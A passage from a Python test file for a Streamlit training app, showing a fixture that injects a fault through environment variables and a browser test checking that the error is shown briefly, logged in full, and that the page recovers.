    with contextlib.ExitStack() as stack:
        # The server inherits this process's environment; restore it as soon as the child has started, so the
        # session's ordinary server (which may start later) never sees the fault.
        saved = {k: os.environ.get(k) for k in extra}
        os.environ.update(extra)
        try:
            url = stack.enter_context(streamlit_server(FAULT_LOG))
        except RuntimeError as exc:
            pytest.fail(str(exc), pytrace=False)
        finally:
            for key, value in saved.items():
                if value is None:
                    os.environ.pop(key, None)
                else:
                    os.environ[key] = value
        yield url


@pytest.mark.browser
def test_an_unexpected_error_in_training_is_short_logged_and_the_page_recovers(page, faulty_app_url):
    open_app(page, faulty_app_url)
    set_number(page, "Learning rate", FAULT_LR)
    error = alert_with(page, "Something went wrong").inner_text()
    assert "RuntimeError" in error and len(error) < 300, error
    assert page.locator('[data-testid="stException"]').count() == 0
    text = body_text(page)
    assert "Traceback" not in text and "injected fault" not in text
    assert not [t for t in TITLES if t in {c["title"] for c in page.evaluate(CHARTS_JS)}]

    set_number(page, "Learning rate", "0.2")
    wait_for_charts(page, lambda c: True, what="the charts to come back")
    assert page.get_by_test_id("stAlert").filter(has_text="Something went wrong").count() == 0
    assert_no_exception(page)

    log = FAULT_LOG.read_text(errors="replace")
    assert "RuntimeError: injected fault" in log and "Traceback (most recent call last)" in log, log[-2000:]
